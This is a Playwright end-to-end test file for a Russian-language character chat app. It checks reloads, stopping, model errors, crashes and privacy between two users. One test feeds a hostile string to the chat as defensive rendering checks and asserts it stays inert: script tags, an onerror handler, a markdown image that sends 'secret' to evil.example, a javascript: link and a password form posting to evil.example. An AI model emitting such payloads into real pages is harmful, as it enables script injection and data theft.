"""Chat in the browser under faults: reloads, stops, errors, crashes, two people, hostile words."""

from __future__ import annotations

import re
import sqlite3
from collections.abc import Callable
from contextlib import closing
from pathlib import Path

import pytest
from playwright.sync_api import Browser, expect

from tests.e2e.arrivals import arrive, begin_chat, make_character
from tests.e2e.people import Person, wait_for_line
from tests.e2e.product import Product
from tests.instances.conftest import seconds_until
from tests.llm_server import LlmServer

STORY = " ".join(f"Слово{n}." for n in range(1, 61))


@pytest.fixture
def talker(person: Callable[[str], Person], request: pytest.FixtureRequest) -> Person:
    """Somebody in a fresh chat with Tikhon."""
    name = re.sub(r"\W", "", request.node.name)[-24:]
    somebody = person(name)
    arrive(somebody)
    begin_chat(somebody)
    return somebody


@pytest.mark.breaks_the_line
def test_in_mid_reply_a_reload_a_second_tab_and_a_line_that_broke_join_it_again(talker: Person, llm: LlmServer) -> None:
    llm.answer(STORY, style="fine", pause=0.03)
    talker.say("Расскажи историю")
    expect(talker.last_reply).to_contain_text("Слово5.")
    talker.page.reload()
    expect(talker.last_reply).to_contain_text("Слово5.")
    second = talker.context.new_page()
    second.goto(talker.page.url)
    expect(second.locator(".message.assistant").last).to_contain_text("Слово5.")
    wait_for_line(second)  # its script, unlike any network, can break a line that does not stand yet: 20 s of silence
    second.evaluate("window.socket.io.engine.close()")
    for page in (talker.page, second):
        # The model takes five seconds for its story, and more where other tests run beside it.
        expect(page.locator(".message.assistant").last).to_contain_text("Слово60.", timeout=60_000)
        expect(page.get_by_role("button", name="Отправить")).to_be_visible()
        expect(page.locator(".message.assistant").last.locator(".bubble")).to_have_text(STORY)  # nothing twice
        expect(page.locator(".message")).to_have_count(3)
    talker.page.reload()
    expect(talker.last_reply.locator(".bubble")).to_have_text(STORY)


def test_stop_keeps_what_has_come(talker: Person, llm: LlmServer) -> None:
    llm.answer(STORY, style="fine", fault="waits")
    talker.composer.fill("Расскажи историю")
    talker.page.get_by_role("button", name="Отправить").hover()
    mouse, stop = talker.page.mouse, talker.page.get_by_role("button", name="Остановить")
    for click in (1, 2):  # a double click sends, and does not stop what it sent
        mouse.down(click_count=click)
        mouse.up(click_count=click)
        expect(stop).to_be_visible()
    llm.go_on(8)
    expect(talker.last_reply).to_contain_text("Слово3.")
    stop.click()
    expect(talker.last_reply).to_contain_text("Остановлено вами")
    expect(talker.page.get_by_role("button", name="Отправить")).to_be_visible()
    kept = talker.last_words()
    assert "Слово3." in kept
    assert "Слово60." not in kept
    talker.page.reload()
    expect(talker.last_reply).to_contain_text("Остановлено вами")
    assert talker.last_words() == kept


def test_a_failing_model_leaves_the_message_and_offers_to_repeat(talker: Person, llm: LlmServer) -> None:
    llm.answer(fault="401")
    talker.say("Ты здесь?")
    expect(talker.last_reply).to_contain_text("настроен неверно")
    talker.last_reply.get_by_text("Подробнее").click()
    reference = re.search(r"Номер для поддержки: (\w{8})", talker.last_reply.inner_text())
    assert reference, "the person needs something to quote"
    log = talker.product.log.read_text()
    assert reference.group(1) in log, "and the administrator to find it"
    assert "b1gfolder" not in log
    assert "a-key" not in log
    expect(talker.page.locator(".message.user")).to_have_text(re.compile("Ты здесь"))

    llm.answer("Здесь, здесь.")
    talker.page.get_by_role("button", name="Повторить").click()
    expect(talker.last_reply).to_contain_text("Здесь, здесь.")
    expect(talker.page.locator(".message")).to_have_count(3)
    talker.page.reload()
    expect(talker.page.locator(".message")).to_have_count(3)


def test_a_reply_cut_off_keeps_its_beginning(talker: Person, llm: LlmServer) -> None:
    llm.answer("Первое. Второе. Третье.", fault="cut")
    talker.say("И что?")
    expect(talker.last_reply).to_contain_text("прервался на полуслове")
    expect(talker.last_reply).to_contain_text("Первое. Второе.")


def test_hostile_words_are_only_words(talker: Person, llm: LlmServer) -> None:
    asked_elsewhere: list[str] = []
    page = talker.page
    page.on("request", lambda request: asked_elsewhere.append(request.url))
    page.on("dialog", lambda dialog: pytest.fail(f"a script ran: {dialog.message}"))
    hostile = (
        "<script>alert(1)</script><img src=x onerror=alert(2)> ![x](https://evil.example/?q=secret) "
        "[нажми](javascript:alert(3)) <form action=https://evil.example><input name=password></form>\n\n**жирно**"
    )
    llm.answer(hostile)
    talker.say(hostile)
    expect(talker.last_reply.locator("strong")).to_have_text("жирно")
    for tag in ("script", "form", "input", "img:not(.message-avatar)", "a[href^=javascript]"):
        expect(page.locator(f".message {tag}")).to_have_count(0)
    expect(talker.last_reply).to_contain_text("<script>alert(1)</script>")
    assert not [url for url in asked_elsewhere if not url.startswith((talker.product.url, "data:", "blob:"))]


@pytest.mark.expects_console("404 .*/characters/", "404 .*/chat/", "404 .*/feed/dialogs/")
def test_two_people_never_see_each_others_things(person: Callable[[str], Person]) -> None:
    anna, boris = person("Anna"), person("Boriska")
    for each in (anna, boris):
        arrive(each)
    hers = make_character(anna, "Тайная подруга", "Никому обо мне не говори: СЕКРЕТ-7.", is_public=False)
    begin_chat(anna, "Тайная подруга")
    anna.say("Привет, это тайна.")
    expect(anna.page.locator(".message.user")).to_contain_text("Привет, это тайна.")
    dialog = anna.page.url

    for address in (hers, f"{hers}/edit", dialog, dialog.replace("/chat/", "/feed/dialogs/")):
        answer = boris.page.goto(address)
        assert answer
        assert answer.status == 404, address
        assert "тайна" not in boris.page.content().lower().replace("тайная подруга", "")
        assert "СЕКРЕТ-7" not in boris.page.content()
    boris.open("/")
    expect(boris.page.locator(".card", has_text="Тихон Рогозин")).to_be_visible()
    expect(boris.page.locator(".card", has_text="Тайная подруга")).to_have_count(0)
    gallery = boris.context.request.get(f"{boris.product.url}/feed/gallery").text()
    assert "СЕКРЕТ-7" not in gallery
    assert "Тайная подруга" not in gallery


def is_saved_with(product: Product, words: str) -> bool:
    """Whether the reply that is being written is kept this far: by design, within a second."""
    with closing(sqlite3.connect(product.data / "beseda.db", timeout=10)) as db:
        [(text,)] = db.execute("SELECT text FROM message WHERE state = 'running'")
    return words in text


@pytest.mark.slow
@pytest.mark.breaks_the_line
def test_a_killed_server_loses_neither_message_nor_beginning(browser: Browser, llm: LlmServer, tmp_path: Path) -> None:
    product = Product(tmp_path, API_KEY="a-key", FOLDER_ID="b1gfolder", BASE_URL=llm.url)
    product.start()
    nina = Person(browser, product, "Nina")
    arrive(nina)
    begin_chat(nina)
    llm.answer(STORY, style="fine", fault="waits")
    nina.say("Расскажи историю")
    llm.go_on(30)
    expect(nina.last_reply).to_contain_text("Слово12.")
    seconds_until(is_saved_with, product, "Слово12.")
    product.kill()
    product.start()
    # The open page comes back by itself, without a hand on the keyboard.
    expect(nina.last_reply).to_contain_text("Ответ прервался", timeout=60_000)
    expect(nina.last_reply).to_contain_text("Слово12.")
    expect(nina.page.locator(".message.user")).to_contain_text("Расскажи историю")
    wait_for_line(nina.page)
    llm.answer("Теперь до конца.")
    nina.page.get_by_role("button", name="Продолжить").click()
    expect(nina.last_reply).to_contain_text("Теперь до конца.")
    nina.leave()
    assert product.stop() == 0, "Ctrl+C ends it cleanly"


@pytest.mark.slow
def test_without_a_key_the_demo_model_answers_and_says_so(browser: Browser, demo_product: Product) -> None:
    pavel = Person(browser, demo_product, "Pavel")
    arrive(pavel)
    begin_chat(pavel)
    pavel.page.get_by_role("button", name="демо-режим").click()
    expect(pavel.page.get_by_role("dialog")).to_contain_text("нужна языковая модель")
    pavel.page.get_by_role("button", name="Понятно").click()
    expect(pavel.page.get_by_role("dialog")).to_have_count(0)
    pavel.say("Привет! Как тебя зовут?")
    expect(pavel.replies).to_have_count(2)
    expect(pavel.page.get_by_role("button", name="Отправить")).to_be_visible(timeout=60_000)
    assert len(pavel.last_words()) > 10
    pavel.leave()
